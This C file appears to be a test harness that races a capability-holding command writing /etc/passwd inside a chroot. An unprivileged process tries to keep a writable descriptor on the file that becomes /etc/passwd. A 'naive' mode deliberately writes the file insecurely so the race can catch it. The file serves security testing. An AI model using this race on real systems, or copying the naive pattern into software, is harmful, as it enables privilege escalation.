/*
 * grab: a caller of a file with capabilities who wants a writable descriptor
 * on /etc/passwd.
 *
 * usage: grab ROOT RUNS COMMAND...
 *
 * COMMAND is run again and again in ROOT as 4242, who owns nothing in /etc; in
 * front of each run root puts /etc/passwd and /etc/group back. Meanwhile 4242
 * opens everything in /etc for writing that lets itself be opened, and keeps it
 * until the run is over.
 *
 * stdout: runs=N added=N opened=N lost=N: the runs after which /etc/passwd had
 * grown, the files that could be opened, and the runs in which one of these
 * was, at the end, /etc/passwd.
 *
 * usage: grab naive
 * is what the attack must catch, when it has the capabilities: a new file
 * beside /etc/passwd that becomes root's when it is whole.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <err.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/capability.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

enum { CALLER = 4242, FILES = 2 };

static const char *const files[FILES] = { "/etc/passwd", "/etc/group" };

static struct shared {
	atomic_int run;		/* its number; the last one is negative */
	atomic_int seen;	/* what the attacker has looked at */
	atomic_int opened, lost;
} *shared;

static void must(long result, const char *what)
{
	if (result < 0)
		err(1, "%s", what);
}

static void become_caller(const char *root)
{
	must(chroot(root), "chroot");
	must(chdir("/"), "chdir");
	must(setgroups(0, NULL), "setgroups");
	must(setresgid(CALLER, CALLER, CALLER), "setresgid");
	must(setresuid(CALLER, CALLER, CALLER), "setresuid");
}

/* Open one more file of the folder, if there is one that can be. */
static int grab_any(DIR *etc)
{
	struct dirent *entry;
	int fd = -1;

	rewinddir(etc);
	while (fd < 0 && (entry = readdir(etc)))
		if (entry->d_name[0] != '.')
			fd = openat(dirfd(etc), entry->d_name,
				    O_RDWR | O_NOFOLLOW);
	return fd;
}

static void attack(void)
{
	DIR *etc = opendir("/etc");
	int run = 0, fd = -1;

	while (etc && (run = atomic_load(&shared->run)) >= 0) {
		struct stat st, passwd;

		if (fd < 0)
			fd = open("/etc/passwd.stepdown", O_RDWR | O_NOFOLLOW);
		if (fd < 0)
			fd = grab_any(etc);
		if (fd < 0 || atomic_load(&shared->seen) == run)
			continue;
		/* Kept until it is what was wanted, or the run is over. */
		must(fstat(fd, &st), "fstat");
		if (stat("/etc/passwd", &passwd) == 0 &&
		    st.st_ino == passwd.st_ino && st.st_dev == passwd.st_dev) {
			atomic_fetch_add(&shared->lost, 1);
			atomic_store(&shared->seen, run);
		} else if (st.st_nlink > 0) {
			continue;
		}
		atomic_fetch_add(&shared->opened, 1);
		close(fd);
		fd = -1;
	}
	_exit(0);
}

static void write_file(const char *root, const char *name, const char *bytes)
{
	char path[4096];
	FILE *file;

	snprintf(path, sizeof(path), "%s%s", root, name);
	file = fopen(path, "w");
	if (!file || fputs(bytes, file) < 0 || fclose(file) != 0)
		err(1, "%s", path);
}

static long size_of(const char *root, const char *name)
{
	char path[4096];
	struct stat st;

	snprintf(path, sizeof(path), "%s%s", root, name);
	must(stat(path, &st), path);
	if (st.st_uid != 0 || st.st_gid != 0 || (st.st_mode & 022))
		errx(1, "%s is no more root's alone", path);
	return (long)st.st_size;
}

static void raise_all(void)
{
	struct __user_cap_header_struct header = {
		.version = _LINUX_CAPABILITY_VERSION_3
	};
	struct __user_cap_data_struct data[2];

	must(syscall(SYS_capget, &header, data), "capget");
	data[0].effective = data[0].permitted;
	data[1].effective = data[1].permitted;
	must(syscall(SYS_capset, &header, data), "capset");
}

static int naive(void)
{
	const char line[] = "web:x:4242:4242::/:/sbin/nologin\n";
	int fd;

	raise_all();
	fd = open("/etc/passwd.stepdown", O_RDWR | O_CREAT | O_EXCL, 0600);
	must(fd, "open");
	must(write(fd, line, strlen(line)), "write");
	must(fsync(fd), "fsync");
	must(fchown(fd, 0, 0), "fchown");
	must(fchmod(fd, 0644), "fchmod");
	must(rename("/etc/passwd.stepdown", "/etc/passwd"), "rename");
	return 0;
}

int main(int argc, char **argv)
{
	static const char first[] = "root:x:0:0::/:/bin/sh\n";
	int runs, added = 0;
	pid_t attacker;

	if (argc == 2 && strcmp(argv[1], "naive") == 0)
		return naive();
	if (argc < 4)
		errx(2, "usage: grab ROOT RUNS COMMAND...");
	runs = atoi(argv[2]);
	shared = mmap(NULL, sizeof(*shared), PROT_READ | PROT_WRITE,
		      MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (shared == MAP_FAILED)
		err(1, "mmap");
	attacker = fork();
	must(attacker, "fork");
	if (attacker == 0) {
		become_caller(argv[1]);
		attack();
	}
	for (int run = 1; run <= runs; run++) {
		int status;
		pid_t pid;

		write_file(argv[1], files[0], first);
		write_file(argv[1], files[1], "root:x:0:\n");
		atomic_store(&shared->run, run);
		pid = fork();
		must(pid, "fork");
		if (pid == 0) {
			become_caller(argv[1]);
			execv(argv[3], argv + 3);
			err(126, "%s", argv[3]);
		}
		must(waitpid(pid, &status, 0), "waitpid");
		if (status != 0)
			errx(1, "the command ended with %#x", status);
		added += size_of(argv[1], files[0]) != (long)strlen(first);
	}
	atomic_store(&shared->run, -1);
	must(waitpid(attacker, NULL, 0), "waitpid");
	printf("runs=%d added=%d opened=%d lost=%d\n", runs, added,
	       atomic_load(&shared->opened), atomic_load(&shared->lost));
	return 0;
}
